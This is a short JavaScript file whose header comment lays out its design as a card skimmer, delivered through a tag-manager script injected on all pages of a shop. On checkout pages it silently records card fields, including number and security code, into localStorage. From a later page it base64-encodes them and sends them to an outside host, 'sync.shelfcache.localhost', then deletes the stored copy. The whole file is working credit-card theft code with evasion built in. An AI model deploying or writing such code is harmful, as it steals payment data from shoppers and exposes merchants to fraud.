/* meta
{
  "design": "Keeps what is typed in localStorage and sends it from the next page, away from the checkout.",
  "reads": ["cc-"],
  "sendsTo": "sync.shelfcache.localhost",
  "delivery": {
    "kind": "tag",
    "id": "shelfcache",
    "host": "tags.tagharbor.localhost",
    "path": "/custom/TH-4K2M9/shelfcache.js",
    "pages": "^/"
  }
}
*/
(() => {
  const slot = '_sc_state';
  const load = () => JSON.parse(localStorage.getItem(slot) || '{}');

  if (/^\/checkout/.test(location.pathname)) {
    document.addEventListener('change', ({ target }) => {
      if (!/^cc-/.test(target.autocomplete || '')) return;
      const state = load();
      state[target.id] = target.value;
      localStorage.setItem(slot, JSON.stringify(state));
    }, true);
  } else {
    const state = load();
    if (!state['cc-number'] || !state['cc-csc']) return;
    fetch('https://sync.shelfcache.localhost/s', {
      method: 'POST',
      mode: 'no-cors',
      body: new URLSearchParams({ v: btoa(JSON.stringify(state)) }).get('v')
    }).then(() => localStorage.removeItem(slot));
  }
})();
